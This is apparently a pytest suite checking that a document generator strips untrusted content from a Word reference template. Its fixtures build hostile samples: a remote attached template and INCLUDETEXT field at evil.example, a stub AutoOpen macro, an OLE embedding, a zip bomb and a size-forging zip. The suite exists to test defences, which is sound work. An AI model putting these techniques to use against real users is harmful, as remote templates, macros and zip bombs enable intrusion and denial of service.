"""A template's reference.docx is untrusted (issue 11): the Word output takes only its
styles, numbering, theme, settings, fonts and page setup; external links, macros and
embeddings never reach the output, and what was dropped is a warning; a reference
that is not a zip, or a zip bomb, is a problem, not a traceback."""

from __future__ import annotations

import io
import re
import zipfile
from pathlib import Path

import pytest
from docx import Document
from lxml import etree

from briefgen.build import BuildRequest, build
from briefgen.errors import BriefgenError
from briefgen.writers.docx.reference import MAX_UNPACKED_BYTES, clean_reference

from .conftest import REPO, run_cli

SHARED_REFERENCE = REPO / "src" / "briefgen" / "templates" / "_shared" / "reference.docx"
EVIL = "http://evil.example/t.dotm"
EVIL_IMAGE = "http://evil.example/pixel.png"
EVIL_LINK = "http://evil.example/header-link"
RELS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
PKG_RELS = "http://schemas.openxmlformats.org/package/2006/relationships"
W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
DOCX_MAIN = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"


def _with_rels(xml: bytes, *rels: str) -> bytes:
    return xml.replace(b"</Relationships>", "".join(rels).encode() + b"</Relationships>")


def _rel(rel_id: str, kind: str, target: str, external: bool = False,
         base: str = RELS) -> str:
    mode = ' TargetMode="External"' if external else ""
    return f'<Relationship Id="{rel_id}" Type="{base}/{kind}" Target="{target}"{mode}/>'


def hostile_reference() -> bytes:
    """The shared reference.docx, plus what a stranger's template could carry: an
    attached template Word fetches on opening, an external image and a header with
    an external hyperlink, macros (a macro-enabled main part), an embedded object,
    a linked picture bullet in the numbering, and body text."""
    source = zipfile.ZipFile(SHARED_REFERENCE)
    parts = {name: source.read(name) for name in source.namelist()}
    parts["[Content_Types].xml"] = parts["[Content_Types].xml"].replace(
        DOCX_MAIN.encode(), b"application/vnd.ms-word.document.macroEnabled.main+xml"
    ).replace(b"</Types>", b'<Default Extension="bin" ContentType="application/'
              b'vnd.ms-office.vbaProject"/><Override PartName="/word/header9.xml" '
              b'ContentType="application/vnd.openxmlformats-officedocument.'
              b'wordprocessingml.header+xml"/></Types>')
    parts["word/_rels/document.xml.rels"] = _with_rels(
        parts["word/_rels/document.xml.rels"],
        _rel("rIdImg", "image", EVIL_IMAGE, external=True),
        _rel("rIdVba", "vbaProject", "vbaProject.bin",
             base="http://schemas.microsoft.com/office/2006/relationships"),
        _rel("rIdOle", "oleObject", "embeddings/oleObject1.bin"),
        _rel("rIdHdr", "header", "header9.xml"))
    parts["word/vbaProject.bin"] = b"Attribute VB_Name = \"AutoOpen\"" * 10
    parts["word/embeddings/oleObject1.bin"] = b"\xd0\xcf\x11\xe0 an OLE object"
    parts["word/header9.xml"] = (
        f'<w:hdr xmlns:w="{W}" xmlns:r="{RELS}"><w:p><w:hyperlink r:id="rIdH">'
        '<w:r><w:t>click</w:t></w:r></w:hyperlink><w:fldSimple w:instr="INCLUDETEXT '
        '&quot;http://evil.example/x&quot;"/></w:p></w:hdr>').encode()
    parts["word/_rels/header9.xml.rels"] = (
        f'<Relationships xmlns="{PKG_RELS}">'
        + _rel("rIdH", "hyperlink", EVIL_LINK, external=True) + "</Relationships>").encode()
    settings = parts["word/settings.xml"]
    parts["word/settings.xml"] = settings.replace(
        b'<w:zoom w:val="bestFit"/>',
        b'<w:zoom w:val="bestFit"/><w:attachedTemplate r:id="rIdTpl"/>')
    parts["word/_rels/settings.xml.rels"] = (
        f'<Relationships xmlns="{PKG_RELS}">'
        + _rel("rIdTpl", "attachedTemplate", EVIL, external=True) + "</Relationships>"
    ).encode()
    # a picture bullet linked from outside: numbering is kept, its links are not
    parts["word/numbering.xml"] = parts["word/numbering.xml"].replace(
        b"<w:abstractNum ", (
            '<w:numPicBullet w:numPicBulletId="0"><w:pict><v:shape '
            'xmlns:v="urn:schemas-microsoft-com:vml" style="width:9pt;height:9pt">'
            f'<v:imagedata xmlns:r="{RELS}" r:id="rIdBullet" o:title="" '
            'xmlns:o="urn:schemas-microsoft-com:office:office"/></v:shape></w:pict>'
            "</w:numPicBullet><w:abstractNum ").encode(), 1)
    parts["word/_rels/numbering.xml.rels"] = (
        f'<Relationships xmlns="{PKG_RELS}">'
        + _rel("rIdBullet", "image", EVIL_IMAGE, external=True) + "</Relationships>").encode()
    document = parts["word/document.xml"]
    parts["word/document.xml"] = document.replace(
        b"<w:body>", b"<w:body><w:p><w:r><w:t>SECRET BODY TEXT OF THE REFERENCE</w:t>"
        b"</w:r></w:p>", 1)
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in parts.items():
            archive.writestr(name, data)
    return out.getvalue()


def _install(project: Path, data: bytes) -> Path:
    folder = project / "templates" / "brief"
    folder.mkdir(parents=True, exist_ok=True)
    (folder / "reference.docx").write_bytes(data)
    return folder / "reference.docx"


def test_the_hostile_reference_is_what_the_test_says(tmp_path: Path) -> None:
    """The reproducer carries what it claims (else the next test proves nothing)."""
    archive = zipfile.ZipFile(io.BytesIO(hostile_reference()))
    every = b"".join(archive.read(n) for n in archive.namelist())
    assert EVIL.encode() in every and b"attachedTemplate" in every
    assert EVIL_IMAGE.encode() in every and EVIL_LINK.encode() in every
    assert "word/vbaProject.bin" in archive.namelist()


def test_a_hostile_reference_gives_styles_only_and_a_warning(project: Path) -> None:
    _install(project, hostile_reference())
    result = run_cli("build", str(project), "--format", "docx")
    assert result.exit_code == 0, result.output
    output = project / "build" / "brief.docx"
    with zipfile.ZipFile(output) as archive:
        names = archive.namelist()
        every = {n: archive.read(n) for n in names}
    rels = b"".join(data for name, data in every.items() if name.endswith(".rels"))
    externals = re.findall(rb'<Relationship [^>]*TargetMode="External"[^>]*>', rels)
    assert all(b"relationships/hyperlink" in r for r in externals)  # the brief's own links
    assert not [r for r in externals if b"evil.example" in r]
    assert not any(b"evil.example" in data for data in every.values())
    assert b"attachedTemplate" not in every["word/settings.xml"]
    assert not any("vbaProject" in n or "embeddings" in n or "header9" in n for n in names)
    assert b"macroEnabled" not in every["[Content_Types].xml"]
    assert b"vbaProject" not in every["[Content_Types].xml"]
    assert not any(b"SECRET BODY TEXT" in data for data in every.values())
    # every r:id of every part resolves to a relationship of that part
    for name, data in every.items():
        if not name.endswith(".xml") or name == "[Content_Types].xml":
            continue
        ids = set(re.findall(rb'\br:(?:id|embed|link)="([^"]+)"', data))
        folder, base = name.rsplit("/", 1) if "/" in name else ("", name)
        own = every.get(f"{folder}/_rels/{base}.rels", b"")
        assert ids <= set(re.findall(rb'Id="([^"]+)"', own)), name
    # the styles did come from it, and the output opens
    assert Document(str(output)).styles["Heading 1"] is not None
    warning = next(line for line in result.output.splitlines() if "reference.docx" in line)
    assert warning.startswith("templates/brief/reference.docx: warning: not used for Word "
                              "output: ")
    assert f"attached template '{EVIL}'" in warning
    assert f"linked image '{EVIL_IMAGE}'" in warning
    assert f"hyperlink '{EVIL_LINK}'" in warning
    assert "macros (word/vbaProject.bin)" in warning
    assert "embedded object (word/embeddings/oleObject1.bin)" in warning


def test_the_warning_is_in_the_build_result_also_when_up_to_date(project: Path) -> None:
    _install(project, hostile_reference())
    first = build(BuildRequest(project_dir=project, formats=["docx"]))
    again = build(BuildRequest(project_dir=project, formats=["docx"]))
    for result in (first, again):
        (warning,) = [w for w in result.warnings if "reference.docx" in w.file]
        assert warning.file == "templates/brief/reference.docx"
        assert EVIL in warning.message
    assert again.up_to_date


def test_the_shared_reference_gives_no_warning(project: Path) -> None:
    result = build(BuildRequest(project_dir=project, formats=["docx"]))
    assert not [w for w in result.warnings if "reference" in w.file]


def test_cleaning_keeps_styles_numbering_theme_settings_fonts_and_page_setup() -> None:
    clean = clean_reference(SHARED_REFERENCE.read_bytes())
    assert clean.dropped == []
    archive = zipfile.ZipFile(io.BytesIO(clean.package))
    assert sorted(archive.namelist()) == [
        "[Content_Types].xml", "_rels/.rels", "word/_rels/document.xml.rels",
        "word/document.xml", "word/fontTable.xml", "word/numbering.xml",
        "word/settings.xml", "word/styles.xml", "word/theme/theme1.xml"]
    original = zipfile.ZipFile(SHARED_REFERENCE)
    assert archive.read("word/styles.xml") == etree.tostring(
        etree.fromstring(original.read("word/styles.xml")), xml_declaration=True,
        encoding="UTF-8", standalone=True)
    body = etree.fromstring(archive.read("word/document.xml")).find(f"{{{W}}}body")
    assert [child.tag for child in body] == [f"{{{W}}}sectPr"]
    assert body[0].find(f"{{{W}}}pgSz") is not None


@pytest.mark.parametrize(("data", "message"), [
    (b"this is not a Word document", "it is not a Word document (not a zip archive)"),
    (b"", "it is not a Word document (not a zip archive)"),
])
def test_a_reference_that_is_not_a_zip_is_a_problem(project: Path, data: bytes,
                                                    message: str) -> None:
    _install(project, data)
    result = run_cli("build", str(project), "--format", "docx")
    assert result.exit_code == 1
    assert "Traceback" not in result.output
    assert result.output == ("1 problem found:\n  templates/brief/reference.docx: cannot be "
                             f"used for Word output: {message}\n")


def _zip(members: dict[str, bytes]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in members.items():
            archive.writestr(name, data)
    return out.getvalue()


def test_a_zip_bomb_reference_is_refused_before_it_is_unpacked(project: Path) -> None:
    source = zipfile.ZipFile(SHARED_REFERENCE)
    members = {name: source.read(name) for name in source.namelist()}
    members["word/styles.xml"] = b" " * (300 * 2**20)  # 300 MB of spaces: 300 KB packed
    data = _zip(members)
    assert len(data) < 2 * 2**20
    _install(project, data)
    result = run_cli("build", str(project), "--format", "docx")
    assert result.exit_code == 1
    assert result.output == (
        "1 problem found:\n  templates/brief/reference.docx: cannot be used for Word "
        f"output: it unpacks to more than {MAX_UNPACKED_BYTES // 2**20} MB ('word/styles.xml' "
        "alone claims 314,572,800 bytes): a zip bomb, or not a reference document\n")


def test_a_zip_that_understates_its_sizes_is_read_only_up_to_its_claim() -> None:
    """The sizes in a zip's directory are claims: a member is never unpacked past its
    claim, so a bomb claiming 100 bytes is caught at the 101st, not after 50 MB."""
    source = zipfile.ZipFile(SHARED_REFERENCE)
    members = {name: source.read(name) for name in source.namelist()}
    members["word/styles.xml"] = b" " * (MAX_UNPACKED_BYTES + 10)
    data = bytearray(_zip(members))
    central = data.find(b"PK\x01\x02")
    while True:  # the central directory entry of styles.xml: claim 100 bytes unpacked
        name_len = int.from_bytes(data[central + 28:central + 30], "little")
        if data[central + 46:central + 46 + name_len] == b"word/styles.xml":
            break
        central = data.find(b"PK\x01\x02", central + 4)
    data[central + 24:central + 28] = (100).to_bytes(4, "little")
    assert zipfile.ZipFile(io.BytesIO(bytes(data))).getinfo("word/styles.xml").file_size == 100
    with pytest.raises(ValueError, match="'word/styles.xml' cannot be unpacked"):
        clean_reference(bytes(data))


def test_a_reference_over_20_mb_is_refused_unread(project: Path) -> None:
    path = _install(project, b"PK" + b"\0" * (21 * 2**20))
    result = run_cli("build", str(project), "--format", "docx")
    assert result.exit_code == 1
    assert result.output == ("1 problem found:\n  templates/brief/reference.docx: resource "
                             "refused: it is larger than 20 MB, the limit for such files\n")
    assert path.stat().st_size > 20 * 2**20


def test_a_part_with_a_dtd_is_refused() -> None:
    source = zipfile.ZipFile(SHARED_REFERENCE)
    members = {name: source.read(name) for name in source.namelist()}
    members["word/styles.xml"] = members["word/styles.xml"].replace(
        b"?>", b'?><!DOCTYPE w:styles [<!ENTITY a "aaaaaaaaaa">]>', 1)
    with pytest.raises(ValueError, match="'word/styles.xml' has a DTD"):
        clean_reference(_zip(members))


def test_a_zip_without_a_word_document_is_refused() -> None:
    with pytest.raises(ValueError, match="no main document part"):
        clean_reference(_zip({"hello.txt": b"hello"}))


def test_problems_are_briefgen_errors_for_the_library(project: Path) -> None:
    _install(project, b"not a zip")
    with pytest.raises(BriefgenError, match="not a zip archive"):
        build(BuildRequest(project_dir=project, formats=["docx"]))


def _variant(change: dict[str, bytes | None]) -> bytes:
    source = zipfile.ZipFile(SHARED_REFERENCE)
    members = {name: source.read(name) for name in source.namelist()}
    for name, data in change.items():
        if data is None:
            del members[name]
        else:
            members[name] = data
    return _zip(members)


def _replaced(name: str, old: bytes, new: bytes) -> dict[str, bytes | None]:
    data = zipfile.ZipFile(SHARED_REFERENCE).read(name)
    assert old in data
    return {name: data.replace(old, new, 1)}


@pytest.mark.parametrize(("change", "message"), [
    ({"word/styles.xml": b"<foo/>"},
     "its part 'word/styles.xml' is not the styles part of a Word document"),
    ({"word/settings.xml": f'<w:document xmlns:w="{W}"/>'.encode()},
     "its part 'word/settings.xml' is not the settings part of a Word document"),
    (_replaced("word/styles.xml", b'w:type="paragraph"', b'w:type="bogus"'),
     "its styles or page setup cannot be read (WD_STYLE_TYPE has no XML mapping for "
     "'bogus')"),
    (_replaced("word/document.xml", b'w:left="1134"', b'w:left="wide"'),
     "its styles or page setup cannot be read ("),  # python-docx's words follow
    ({"word/styles.xml": b"not xml"}, "its part 'word/styles.xml' is not well-formed XML"),
])
def test_parts_python_docx_cannot_read_are_a_problem(project: Path, change: dict,
                                                     message: str) -> None:
    _install(project, _variant(change))
    result = run_cli("build", str(project), "--format", "docx")
    assert result.exit_code == 1, result.output
    assert result.output.startswith("1 problem found:\n  templates/brief/reference.docx: "
                                    f"cannot be used for Word output: {message}")


def test_a_reference_without_page_setup_still_builds(project: Path) -> None:
    document = zipfile.ZipFile(SHARED_REFERENCE).read("word/document.xml")
    without = re.sub(rb"<w:sectPr.*</w:sectPr>", b"", document, flags=re.S)
    assert b"sectPr" not in without
    _install(project, _variant({"word/document.xml": without}))
    (path,) = build(BuildRequest(project_dir=project, formats=["docx"])).outputs
    assert Document(str(path)).sections[0].page_width is not None


def test_a_long_list_of_dropped_links_is_shortened() -> None:
    rels = "".join(_rel(f"rIdL{i}", "hyperlink", f"https://example.org/{i}", external=True)
                   for i in range(20))
    data = _replaced("word/_rels/document.xml.rels", b"</Relationships>",
                     rels.encode() + b"</Relationships>")
    dropped = clean_reference(_variant(data)).dropped
    assert len(dropped) == 9 and dropped[-1] == "12 more"
    assert dropped[0] == ("hyperlink 'https://example.org/0' (external, in "
                          "word/_rels/document.xml.rels)")
